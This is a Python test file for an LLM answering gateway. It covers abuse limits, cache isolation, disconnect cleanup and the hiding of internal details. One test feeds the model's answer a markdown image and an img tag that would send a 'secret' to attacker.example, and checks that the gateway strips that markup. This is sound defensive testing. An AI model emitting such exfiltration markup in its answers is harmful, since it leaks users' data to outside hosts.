"""The gateway under abuse: one key cannot starve the others, one question never gets another's
cached answer, nothing follows the terminal event, and what it releases cannot make a client
fetch anything."""

import asyncio
import json
import threading
import time

import pytest

from services.gateway.cache import cache_key
from tests.gateway.conftest import SUPPORTED, auth, make_client, read_events


def ask(client, key, body=None):
    body = body or {"question": "When did Apollo 11 land?", "top_k": 2}
    with client.stream("POST", "/v1/answer", json=body, headers=auth(key)) as response:
        if response.status_code != 200:
            response.read()
            return response.status_code, response.json()
        return 200, read_events(response)


def new_key(client, rate=1000):
    return client.portal.call(client.app.state.gatekeeper.keys.create, "t", rate)[0]


def test_cache_keys_tell_apart_questions_that_differ_in_more_than_case_and_spaces():
    def key(question):
        return cache_key(question, {"top_k": 10, "index_version": "idx", "model": "m"})

    assert len({key("What is C++?"), key("What is C#?"), key("What is C?"), key("What is C")}) == 4
    assert key("What is C++?") == key("  what IS   c++? ")


def test_c_plus_plus_and_c_sharp_get_their_own_answers(gateway, api_key, script):
    _, first = ask(gateway, api_key, {"question": "What is C++?"})
    _, second = ask(gateway, api_key, {"question": "What is C#?"})
    assert first[-1][1]["cache_hit"] is False and second[-1][1]["cache_hit"] is False
    assert script.calls["/v1/generate"] == 2


@pytest.mark.parametrize(("body", "message"), [
    ({"question": "q?", "top_k": 50}, "at most 20 passages"),
    ({"question": "q?", "max_tokens": 4000}, "at most 512 tokens"),
    ({"question": "q?", "filters": {"a": {"b": [1]}}}, "filters"),
])
def test_oversized_requests_are_refused_per_request(gateway, api_key, body, message):
    status, problem = ask(gateway, api_key, body)
    assert status == 422 and message in problem["detail"]


def test_a_key_spending_its_token_budget_waits_and_other_keys_do_not(script, redis_url):
    with make_client(script, redis_url, tokens_per_minute_per_key=100) as client:
        spender, other = new_key(client), new_key(client)
        assert ask(client, spender)[0] == 200  # 120 prompt + 30 completion tokens: 50 in debt
        status, problem = ask(client, spender, {"question": "Another question?"})
        assert status == 429 and "tokens per minute" in problem["detail"]
        assert ask(client, other, {"question": "Another question?"})[0] == 200


def test_a_key_holds_at_most_its_streams_at_once(script, redis_url):
    script.generator_stalls_mid_stream = True  # the first answer holds its lease until the deadline
    with make_client(script, redis_url, streams_per_key=1, request_deadline_s=3) as client:
        key, other = new_key(client), new_key(client)
        holder = threading.Thread(target=ask, args=(client, key))
        holder.start()
        time.sleep(0.5)
        status, problem = ask(client, key, {"question": "A second one?"})
        assert status == 429 and "1 answers in progress" in problem["detail"]
        script.generator_stalls_mid_stream = False
        assert ask(client, other, {"question": "A second one?"})[0] == 200  # other keys are not held up
        holder.join(10)
        assert ask(client, key, {"question": "A third one?"})[0] == 200  # the lease came back


def test_a_client_gone_before_the_first_byte_gives_back_its_slot_and_lease(gateway, api_key):
    app, gatekeeper = gateway.app, gateway.app.state.gatekeeper
    body = json.dumps({"question": "When did Apollo 11 land?"}).encode()
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": "/v1/answer", "raw_path": b"/v1/answer", "query_string": b"", "root_path": "",
             "server": ("testserver", 80), "client": ("testclient", 1),
             "headers": [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode()),
                         (b"authorization", f"Bearer {api_key}".encode())]}
    messages = [{"type": "http.request", "body": body, "more_body": False}]

    async def receive():
        return messages.pop(0) if messages else {"type": "http.disconnect"}

    async def send(message):
        if message["type"] == "http.response.start":
            raise OSError("client went away")  # the connection is gone before the first byte

    key_id = gateway.portal.call(gatekeeper.keys.list)[-1].key_id

    async def call():
        try:
            await app(scope, receive, send)
        except OSError:
            pass
        return gatekeeper.answers.in_flight, await gatekeeper.quotas.redis.zcard(f"ninjarag:streams:{key_id}")

    in_flight, leases = gateway.portal.call(call)
    assert in_flight == 0 and leases == 0


def test_a_failing_cache_store_never_follows_done(script, redis_url, monkeypatch):
    from services.gateway.cache import AnswerCache

    async def hang(self, key, events):
        await asyncio.sleep(30)

    monkeypatch.setattr(AnswerCache, "put", hang)
    with make_client(script, redis_url, request_deadline_s=5) as client:
        started = time.monotonic()
        _, events = ask(client, new_key(client))
    names = [name for name, _ in events]
    assert names[-1] == "done" and "error" not in names and time.monotonic() - started < 4


def test_a_hanging_generator_does_not_hold_up_cache_hits(script, redis_url):
    with make_client(script, redis_url) as client:
        key = new_key(client)
        ask(client, key)
        client.app.state.versions.refresh_s = 0  # the next answer asks for versions again
        script.model_delay_s = 30
        started = time.monotonic()
        _, events = ask(client, key)
        assert events[-1][1]["cache_hit"] is True and time.monotonic() - started < 5


def test_released_sentences_cannot_make_a_client_fetch_anything(gateway, api_key, script):
    script.answer = SUPPORTED[:-1] + " ![x](https://attacker.example/?q=secret) <img src=https://a.example/x.png>."
    _, events = ask(gateway, api_key)
    text = " ".join(data["text"] for name, data in events if name == "sentence")
    assert "](" not in text and "![" not in text and "<img" not in text
    assert "attacker.example" in text  # the words stay; only the markup is broken


def test_errors_name_no_internal_address(script, redis_url):
    script.retriever_unreachable = True
    with make_client(script, redis_url) as client:
        _, events = ask(client, new_key(client))
        assert events[-1][0] == "error" and "cannot reach retriever" in events[-1][1]["message"]
        assert "http://" not in events[-1][1]["message"]


def test_readiness_never_shows_the_redis_url(script):
    url = "redis://:hunter2-password@127.0.0.1:1/0"  # nothing listens there
    with make_client(script, url) as client:
        ready = client.get("/readyz").json()
    assert ready["ready"] is True and "hunter2" not in json.dumps(ready)
